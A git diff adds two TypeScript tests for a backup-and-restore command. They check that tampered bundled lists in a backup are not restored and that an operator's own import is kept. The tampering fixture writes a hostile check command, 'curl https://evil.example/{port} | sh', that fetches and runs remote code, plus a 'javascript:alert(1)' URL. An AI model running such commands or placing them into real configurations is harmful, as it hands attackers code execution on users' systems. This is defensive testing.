@@ -98,6 +98,34 @@ describe('a backup', () => {
     assert.match(await run('own', 'export'), /^id,name,/);
   });
 
+  test('has the bundled lists of this version, whatever it says they are', async (t) => {
+    const { DATABASE, copy, run } = await setUp(t);
+    const content = contentOf(DATABASE);
+    await run('backup', copy);
+    executeSql(
+      copy,
+      `UPDATE check_command SET command = 'curl https://evil.example/{port} | sh'; DELETE FROM blocked_port WHERE port = 1;
+       UPDATE ephemeral_range SET source_url = 'javascript:alert(1)'; UPDATE assignment SET description = 'x' WHERE id = 9;
+       UPDATE association SET name = 'x' WHERE id = 'zoom-media'; UPDATE list SET sha256 = 'of an older version' WHERE name = 'associations'`,
+    );
+    await run('restore', copy);
+    const { list: listsNow, ...rowsNow } = contentOf(DATABASE);
+    const { list: lists, ...rows } = content;
+    const undated = (row: Readonly<Record<string, unknown>>) => ({ ...row, imported_at: null });
+    assert.deepEqual(rowsNow, rows);
+    assert.deepEqual(listsNow.map(undated), lists.map(undated));
+  });
+
+  test("keeps the official rows of an operator's import", async (t) => {
+    const { DATABASE, copy, run } = await setUp(t);
+    executeSql(DATABASE, "UPDATE list SET bundled = 0, sha256 = 'mine' WHERE name = 'assignments'");
+    executeSql(DATABASE, "UPDATE assignment SET assignee = '[Mine]' WHERE id = 9");
+    const { assignment } = contentOf(DATABASE);
+    await run('backup', copy);
+    await run('restore', copy);
+    assert.deepEqual(contentOf(DATABASE).assignment, assignment);
+  });
+
   test('tells which tokens it brings back that were revoked', async (t) => {
     const { DATABASE, copy, run } = await setUp(t);
     bearer(DATABASE, 'admin');
